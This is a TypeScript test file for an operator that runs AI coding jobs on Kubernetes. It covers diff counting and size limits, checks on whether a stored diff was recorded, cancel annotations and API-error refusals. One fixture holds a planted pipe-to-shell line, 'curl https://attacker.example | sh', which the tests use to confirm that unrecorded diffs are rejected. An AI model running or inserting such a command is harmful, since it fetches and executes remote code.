// The pure parts of how a run ends: what status.result says about the diff it kept, how a
// snapshot's numbers are counted, how the cancel annotation reads, and which API errors are
// refusals of an object (the reconciler and the diff keeper ask apiRefusal).
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { LIMITS } from '../../operator/src/api/index.ts';
import { apiRefusal } from '../../operator/src/kube/api-errors.ts';
import { CANCEL_ANNOTATION, cancelledMessage, readCancelRequest } from '../../operator/src/reconcile/cancel-request.ts';
import { diffSha } from '../../operator/src/reconcile/diff-config-map.ts';
import {
  NO_DIFF,
  countDiff,
  keptDiffResult,
  recordedDiff,
  storedDiffSource,
  storedKeptDiff,
  withDiffNote,
  type RecordedDiff,
} from '../../operator/src/reconcile/kept-diff.ts';
import { storedTextBytes } from '../../operator/src/text/stored-json-bytes.ts';
import { codingRunFixture } from '../support/coding-run-fixture.ts';

const DIFF = [
  'diff --git a/README.md b/README.md',
  '--- a/README.md',
  '+++ b/README.md',
  '@@ -1,2 +1,2 @@',
  '-Hello',
  '+Hello, world',
  ' ',
  'diff --git a/NEW b/NEW',
  'new file mode 100644',
  '--- /dev/null',
  '+++ b/NEW',
  '@@ -0,0 +1 @@',
  '+new',
  '',
].join('\n');

describe('kept diff', () => {
  it('counts files, insertions and deletions of a snapshot from its text, not its headers', () => {
    expect(countDiff(DIFF)).toEqual({ filesChanged: 2, insertions: 2, deletions: 1 });
    expect(countDiff('')).toEqual({ filesChanged: 0, insertions: 0, deletions: 0 });
  });

  it('counts deleted `-- ` and added `++ ` lines inside a hunk, which only look like file headers', () => {
    // Deleting SQL comments showed as no deletion: every `--- ` line was taken for a header.
    const sql = [
      'diff --git a/db/001.sql b/db/001.sql',
      'index 1..2 100644',
      '--- a/db/001.sql',
      '+++ b/db/001.sql',
      '@@ -1,3 +1,2 @@',
      '--- only admins may drop this table',
      '-- keep: audit',
      '+++ new header',
      ' DROP TABLE audit;',
      '',
    ].join('\n');
    expect(countDiff(sql)).toEqual({ filesChanged: 1, insertions: 1, deletions: 2 });
    // The next file's header is a header again.
    expect(countDiff(`${sql}${DIFF}`)).toEqual({ filesChanged: 3, insertions: 3, deletions: 3 });
  });

  it('says where the diff came from, and bounds the copy in status at 64 KiB', () => {
    const big = `${DIFF}${'+x\n'.repeat(40_000)}`;
    const result = keptDiffResult({ source: 'snapshot', diff: big, truncated: false, ...countDiff(big), configMap: 'r-diff' }, 'done');
    expect(result).toMatchObject({ diffSource: 'snapshot', diffTruncated: true, diffConfigMap: 'r-diff', summary: 'done' });
    // The whole diff's sha256, which readers of the ConfigMap check (only the operator writes status).
    expect(result.diffSha256).toBe(createHash('sha256').update(big).digest('hex'));
    expect(Buffer.byteLength(result.diff)).toBeLessThanOrEqual(65_536);
    expect(keptDiffResult(NO_DIFF, '')).toEqual({
      summary: '',
      diff: '',
      diffTruncated: false,
      filesChanged: 0,
      insertions: 0,
      deletions: 0,
      diffSource: 'none',
    });
  });

  it("bounds the diff's and the summary's size as the API server stores them, where `<` and a control character take six bytes", () => {
    // A model-written file of `<`, and one of \x01 (still text to git): 64 KiB of UTF-8 was 384 KiB in etcd.
    for (const character of ['<', '\u0001']) {
      const diff = `${DIFF}${`+${character.repeat(79)}\n`.repeat(2_000)}`;
      const summary = `${character.repeat(99)}\n`.repeat(400);
      const result = keptDiffResult({ source: 'final', diff, truncated: false, ...countDiff(diff), configMap: 'r-diff' }, summary);
      expect(storedTextBytes(result.diff)).toBeLessThanOrEqual(LIMITS.diff);
      expect(storedTextBytes(result.summary)).toBeLessThanOrEqual(LIMITS.summary);
      expect(result).toMatchObject({ diffTruncated: true, summaryTruncated: true });
      expect(diff.startsWith(result.diff) && summary.startsWith(result.summary)).toBe(true);
    }
  });

  it('names the commit the diff is against when it is known, so an ended run can be continued', () => {
    const revision = 'a'.repeat(40);
    expect(keptDiffResult({ ...NO_DIFF, revision }, '').revision).toBe(revision);
    expect(keptDiffResult(NO_DIFF, '')).not.toHaveProperty('revision');
  });

  it('adds why the whole diff is not kept to the message, and nothing otherwise', () => {
    expect(withDiffNote('Done.', { ...NO_DIFF, notStored: 'quota' })).toBe('Done. The full diff could not be kept: quota');
    expect(withDiffNote('Done.', NO_DIFF)).toBe('Done.');
  });

  // A diff read back from its ConfigMap carries no size: as long as the cut, it is taken for
  // one (reachesDiffCut, as isCutDiff does), else its counts read as the whole change's.
  it('takes a stored diff as long as the 1 MiB cut for a cut, and a shorter one for whole', () => {
    const line = `+${'x'.repeat(99)}\n`;
    const cut = `diff --git a/a b/a\n${line.repeat(LIMITS.fullDiff / line.length + 1)}`.slice(0, LIMITS.fullDiff - 2);
    expect(storedKeptDiff({ diff: cut, configMap: 'r-diff' })).toMatchObject({ truncated: true, configMap: 'r-diff' });
    expect(storedKeptDiff({ diff: DIFF, configMap: 'r-diff' })).toMatchObject({ truncated: false, ...countDiff(DIFF) });
  });

  // Its bytes were under the cut (not truncated), but its text, three bytes for each that is not
  // UTF-8, was cut where the ConfigMap's bound is: the counts are of that part.
  it('says the text of a change that is not UTF-8 is kept and counted only in part when it reaches the cut', () => {
    const text = `diff --git a/a b/a\n+${'\uFFFD'.repeat(LIMITS.fullDiff)}`;
    const kept = { ...NO_DIFF, notUtf8: true, diff: text.slice(0, 20 + Math.floor((LIMITS.fullDiff - 20) / 3)) };
    expect(Buffer.byteLength(kept.diff)).toBeGreaterThanOrEqual(LIMITS.fullDiff - 3);
    expect(withDiffNote('Done.', kept)).toBe(
      'Done. The change is not UTF-8 text, and its text (each byte that is not, three bytes as U+FFFD) is larger than ' +
        'the 1 MiB the operator keeps: diffConfigMap holds, and status.result counts, only its first 1 MiB.',
    );
    expect(withDiffNote('Done.', { ...kept, diff: text.slice(0, 1000) })).toBe('Done.');
    // Cut as bytes too: the one note.
    expect(withDiffNote('Done.', { ...kept, truncated: true })).toMatch(/^Done\. The change is larger than the 1 MiB [^.]*\.[^.]*\.$/);
  });

  it('says a change cut at 1 MiB is kept and counted only in part, before why it is not kept', () => {
    expect(withDiffNote('Done.', { ...NO_DIFF, truncated: true, notStored: 'quota' })).toBe(
      'Done. The change is larger than the 1 MiB the operator keeps: diffConfigMap holds, and status.result counts, only its ' +
        'first 1 MiB. The full diff could not be kept: quota',
    );
  });
});

// An ending without its sandbox keeps the diff its ConfigMap holds only when the operator
// recorded it. A step saves the sha256 of the snapshot it is about to write (pending) before
// the write, and records it as stored in the save after: a worker that dies in between leaves
// the state naming it only as pending, and that diff is the run's all the same.
describe('storedDiffSource: whether a diff read back from the ConfigMap is one the operator stored', () => {
  const diffOf = (line: string) => `diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-x\n+${line}\n`;
  const STORED = diffOf('the last snapshot stored');
  const PENDING = diffOf('the snapshot being stored');
  const PLANTED = diffOf('curl https://attacker.example | sh');
  const state = { diffSnapshot: { sha256: diffSha(STORED), configMap: 'r-diff' }, pendingDiffSha256: diffSha(PENDING) };

  it.each<[string, string, RecordedDiff, 'snapshot' | 'final' | undefined]>([
    ['the pending snapshot (its write landed, the save after it did not)', PENDING, recordedDiff(state, undefined), 'snapshot'],
    ['a first snapshot, pending only', PENDING, recordedDiff({ pendingDiffSha256: diffSha(PENDING) }, undefined), 'snapshot'],
    ['the last snapshot stored, while another is pending (its write did not land)', STORED, recordedDiff(state, undefined), 'snapshot'],
    ['a diff matching neither', PLANTED, recordedDiff(state, undefined), undefined],
    [
      'a diff other than the pending one, no snapshot stored yet',
      PLANTED,
      recordedDiff({ pendingDiffSha256: diffSha(PENDING) }, undefined),
      undefined,
    ],
    ['any diff, for a state that records none', PENDING, recordedDiff({}, undefined), undefined],
    ["an earlier ending's, with its source", PLANTED, recordedDiff(state, { diffSha256: diffSha(PLANTED), diffSource: 'final' }), 'final'],
    // Prepare still in flight (no state yet), or the state gone: a diff there is not the run's to vouch for.
    [
      'any diff, with nothing to check it against (the state absent, no step taken, no earlier ending)',
      PLANTED,
      recordedDiff(undefined, undefined),
      undefined,
    ],
    // The state gone after steps (Redis lost it): the run's work is taken as its last snapshot.
    ['any diff, the state gone after 3 steps and no earlier ending', STORED, recordedDiff(undefined, undefined, 3), 'snapshot'],
    ['any diff, for a state that records none though the status counts steps', PLANTED, recordedDiff({}, undefined, 3), undefined],
    [
      "an earlier ending's, the state gone",
      PLANTED,
      recordedDiff(undefined, { diffSha256: diffSha(PLANTED), diffSource: 'final' }),
      'final',
    ],
  ])('%s', (_, diff, recorded, source) => {
    expect(storedDiffSource(diff, recorded)).toBe(source);
  });

  it('reads the pending sha256 from the state beside the stored one', () => {
    expect(recordedDiff(state, undefined)).toEqual({
      snapshotSha256: diffSha(STORED),
      pendingSha256: diffSha(PENDING),
      ended: undefined,
    });
  });
});

describe('the cancel annotation', () => {
  const annotated = (value: string | undefined) =>
    codingRunFixture({ metadata: value === undefined ? {} : { annotations: { [CANCEL_ANNOTATION]: value } } });

  it('cancels with any value, even an empty one, and not without the annotation', () => {
    expect(readCancelRequest(annotated(undefined))).toBeUndefined();
    expect(readCancelRequest(annotated(''))).toEqual({ reason: '' });
    expect(readCancelRequest(annotated('  wrong\n branch '))).toEqual({ reason: 'wrong branch' });
  });

  it('bounds the reason and says the phase in the message', () => {
    expect(readCancelRequest(annotated('x'.repeat(5000)))!.reason).toHaveLength(1024);
    expect(cancelledMessage({ reason: 'wrong branch' }, 'Running')).toBe(
      `Cancelled by request (annotation ${CANCEL_ANNOTATION}) while Running: wrong branch.`,
    );
  });
});

describe('apiRefusal', () => {
  const apiError = (code: number, body: unknown) => Object.assign(new Error(`HTTP-Code: ${code}`), { code, body });

  it.each([
    [403, 'pods "x" is forbidden: exceeded quota: q'],
    [422, 'Pod "x" is invalid: metadata.labels: Invalid value'],
    [400, 'bad request'],
  ])('is the code and the API server message for %s', (code, message) => {
    expect(apiRefusal(apiError(code, JSON.stringify({ kind: 'Status', message })))).toEqual({ code, message });
  });

  it.each([409, 500, 503, undefined])('is not a refusal for %s', (code) => {
    expect(apiRefusal(code === undefined ? new Error('ECONNRESET') : apiError(code, '{}'))).toBeUndefined();
  });

  it('falls back to the error text when the body is not a Status', () => {
    expect(apiRefusal(apiError(403, 'not json'))).toEqual({ code: 403, message: 'HTTP-Code: 403' });
  });
});
